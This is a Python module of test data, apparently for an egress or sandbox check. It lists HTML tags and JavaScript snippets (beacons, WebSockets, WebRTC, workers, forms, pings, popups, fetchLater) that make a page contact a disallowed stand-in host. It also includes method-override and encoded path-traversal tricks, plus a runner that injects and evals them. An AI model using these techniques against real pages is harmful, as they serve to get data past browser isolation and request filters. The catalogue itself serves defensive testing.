"""Ways in which a hostile page reaches out: JavaScript by name, each run with `bad`, an address of its own at a host
that is not allowed, and `here`, the page's own host."""

from __future__ import annotations

TAGS = {
    "script": "<script src='BAD'></script>",
    "style sheet": "<link rel=stylesheet href='BAD'>",
    "imported style": "<style>@import 'BAD';</style>",
    "background": "<div style=\"background: url('BAD')\">x</div>",
    "cursor": "<style>@font-face { font-family: f; src: url('BAD') } p { font-family: f }</style><p>x</p>",
    "list image": "<ul style=\"list-style-image: url('BAD')\"><li>x</ul>",
    "icon": "<link rel=icon href='BAD'>",
    "prefetch": "<link rel=prefetch href='BAD'>",
    "preload": "<link rel=preload as=image href='BAD'>",
    "module preload": "<link rel=modulepreload href='BAD'>",
    "preconnect": "<link rel=preconnect href='BAD'>",
    "name asked ahead": "<link rel=dns-prefetch href='BAD'>",
    "manifest": "<link rel=manifest href='BAD'>",
    "image": "<img src='BAD'>",
    "image of a set": "<img srcset='BAD 1x'>",
    "picture": "<picture><source srcset='BAD'><img></picture>",
    "image in SVG": "<svg><image href='BAD'></image></svg>",
    "image button": "<input type=image src='BAD'>",
    "video": "<video src='BAD' preload=auto></video>",
    "poster": "<video poster='BAD'></video>",
    "audio": "<audio src='BAD' preload=auto></audio>",
    "captions": "<video preload=auto src='/page'><track default kind=captions src='BAD'></video>",
    "frame": "<iframe src='BAD'></iframe>",
    "frame's own document": "<iframe srcdoc=\"<img src='BAD'>\"></iframe>",
    "frame that moves on": "<iframe srcdoc=\"<meta http-equiv=refresh content='0;url=BAD'>\"></iframe>",
    "object": "<object data='BAD'></object>",
    "embed": "<embed src='BAD'>",
    "speculation": '<script type=speculationrules>{"prefetch": [{"source": "list", "urls": ["BAD"]}]}</script>',
}

SCRIPTS = {
    "fetch": "fetch(bad, {mode: 'no-cors'})",
    "fetch that is redirected": "fetch(here + '/to?url=' + encodeURIComponent(bad), {mode: 'no-cors'})",
    "image that is redirected": "new Image().src = here + '/to?url=' + encodeURIComponent(bad)",
    "frame that is redirected": "frame(here + '/to?url=' + encodeURIComponent(bad))",
    "backslash": "fetch(bad.replace('://', ':\\\\'), {mode: 'no-cors'})",
    "kept alive": "fetch(bad, {mode: 'no-cors', method: 'POST', body: 'x', keepalive: true})",
    "XMLHttpRequest": "{ const x = new XMLHttpRequest(); x.open('GET', bad); x.send() }",
    "beacon": "navigator.sendBeacon(bad, 'x')",
    "module": "import(bad)",
    "WebSocket": "new WebSocket(bad.replace('http', 'ws'))",
    "event source": "{ const s = new EventSource(bad); s.onerror = () => s.close() }",
    "worker": "worker(Worker, `fetch('${bad}', {mode: 'no-cors'})`)",
    "worker's script": "worker(Worker, `importScripts('${bad}')`)",
    "worker's WebSocket": "worker(Worker, `new WebSocket('${bad.replace('http', 'ws')}')`)",
    "shared worker": "worker(SharedWorker, `fetch('${bad}', {mode: 'no-cors'})`)",
    "form": "form(bad, 'get')",
    "form that posts": "form(bad, 'post')",
    "frame by script": "frame('about:blank').contentWindow.location = bad",
    "frame's fetch": "frame('about:blank').contentWindow.fetch(bad, {mode: 'no-cors'})",
    "popup": "open(bad)",
    "ping": "{ const a = tag('a'); a.ping = bad; a.href = '#x'; a.click() }",
    "worklet": "CSS.paintWorklet && CSS.paintWorklet.addModule(bad)",
    "WebTransport": "self.WebTransport && new WebTransport(bad.replace('http:', 'https:'))",
    "WebRTC over UDP": "rtc({urls: 'stun:' + new URL(bad).host})",
    "WebRTC over TCP": "rtc({urls: `turn:${new URL(bad).host}?transport=tcp`, username: 'u', credential: 'p'})",
    "service worker": "navigator.serviceWorker?.register('/sw.js?url=' + encodeURIComponent(bad))",
    "beacon at the end": "addEventListener('pagehide', () => navigator.sendBeacon(bad, 'x'))",
    "kept alive at the end": "addEventListener('pagehide', () => fetch(bad, {mode: 'no-cors', keepalive: true}))",
}

CHANGES = {
    "fetch": "fetch(bad, {method: 'POST', body: 'x'})",
    "DELETE": "fetch(bad, {method: 'DELETE'})",
    "beacon": "navigator.sendBeacon(bad, 'x')",
    "kept alive": "fetch(bad, {method: 'POST', body: 'x', keepalive: true})",
    "worker": "worker(Worker, `fetch('${bad}', {method: 'POST', body: 'x'})`)",
    "shared worker": "worker(SharedWorker, `fetch('${bad}', {method: 'POST', body: 'x'})`)",
    "form": "form(bad, 'post')",
    "ping": SCRIPTS["ping"],
    "POST that is redirected": "post('/to?status=307&url=' + encodeURIComponent(bad))",
    "log-in that is redirected": "post('/login?status=307&url=' + encodeURIComponent(bad))",
    "method in a header": "fetch(bad, {headers: {'X-HTTP-Method-Override': 'DELETE'}})",
    "method in the query": "fetch(bad + '?_method=delete')",
    "path in a path": "fetch(here + '/login%2f..%2fchange', {method: 'POST', body: 'x'})",
    "other method to log in": "fetch(here + '/login', {method: 'PUT', body: 'x'})",
    "beacon at the end": "addEventListener('pagehide', () => navigator.sendBeacon(bad, 'x'))",
    "kept alive at the end": "addEventListener('pagehide', () => post(bad, {keepalive: true}))",
    "later": "fetchLater(bad, {method: 'POST', body: 'x', activateAfter: 0})",
    "later, at the end": "fetchLater(bad, {method: 'POST', body: 'x'})",
    "XMLHttpRequest": "{ const x = new XMLHttpRequest(); x.open('POST', bad); x.send('x') }",
    "XMLHttpRequest that waits": "{ const x = new XMLHttpRequest(); x.open('PUT', bad, false); x.send('x') }",
    "worker's XMLHttpRequest": "worker(Worker, `let x = new XMLHttpRequest(); x.open('POST', '${bad}'); x.send('x')`)",
    "worker's worker": "worker(Worker, `new Worker('data:text/javascript,' + encodeURIComponent(\"${posts(bad)}\"))`)",
    "module": "new Worker(script(posts(bad)), {type: 'module'})",
    "import of a module": "new Worker(script(`import '${here}${script(posts(bad))}'`), {type: 'module'})",
    "script of a worker": "worker(Worker, `importScripts('${here}${script(posts(bad))}')`)",
    "multipart form": "form(bad, 'post', 'multipart/form-data')",
    "button of a form": """{
      const f = tag('form'), b = document.createElement('button'); b.formAction = bad; b.formMethod = 'post';
      f.target = '_blank'; f.append(b); f.requestSubmit(b) }""",
    "ping of an area": "{ const m = tag('map'); m.innerHTML = `<area href='#y' ping='${bad}'>`; m.firstChild.click() }",
    "frame's beacon": "tag('iframe').contentWindow.navigator.sendBeacon(bad, 'x')",
    "frame in a sandbox": "{ const f = tag('iframe'); f.sandbox = 'allow-scripts'; f.srcdoc = html(bad) }",
    "popup": "open('').fetch(bad, {method: 'POST', body: 'x'})",
    "popup of a blob": "open(URL.createObjectURL(new Blob([html(bad)], {type: 'text/html'})))",
    "PATCH": "fetch(bad, {method: 'PATCH', body: 'x'})",
    "measured": "post(bad, {attributionReporting: {eventSourceEligible: true, triggerEligible: true}})",
    "report": "tag('img').src = '/refused.png?' + encodeURIComponent(bad)",
}

RUN = """([ways, tags, base, here, wait]) => {
  const tag = name => document.body.appendChild(document.createElement(name));
  const frame = url => { const f = tag('iframe'); f.src = url; return f };
  const worker = (Kind, code) => new Kind(URL.createObjectURL(new Blob([code], {type: 'text/javascript'})));
  const script = code => '/worker.js?code=' + encodeURIComponent(code).replaceAll("'", '%27');
  const posts = url => `fetch('${url}', {method: 'POST', mode: 'no-cors', body: 'x'})`;
  const html = url => `<script>${posts(url)}</` + 'script>';
  const form = (url, method, coded = 'application/x-www-form-urlencoded') => {
    const f = tag('form'), into = frame('about:blank');
    into.name = 'f' + Math.random(); f.action = url; f.method = method; f.enctype = coded;
    f.target = into.name; f.submit() };
  const rtc = server => {
    const p = new RTCPeerConnection({iceServers: [server]}); p.createDataChannel('x');
    p.createOffer().then(o => p.setLocalDescription(o)) };
  const post = (url, how) => fetch(url, {method: 'POST', body: 'x', ...how});
  const address = name => base + '/' + encodeURIComponent(name);
  for (const [name, html] of Object.entries(tags)) {
    const place = tag('div'), html_ = html.replaceAll('BAD', address(name).replaceAll("'", '%27'));
    place.append(document.createRange().createContextualFragment(html_)) }
  for (const [name, code] of Object.entries(ways)) {
    const bad = address(name);
    try { const made = eval(code); if (made && made.catch) made.catch(() => 0) } catch {} }
  return new Promise(done => setTimeout(done, wait)) }"""
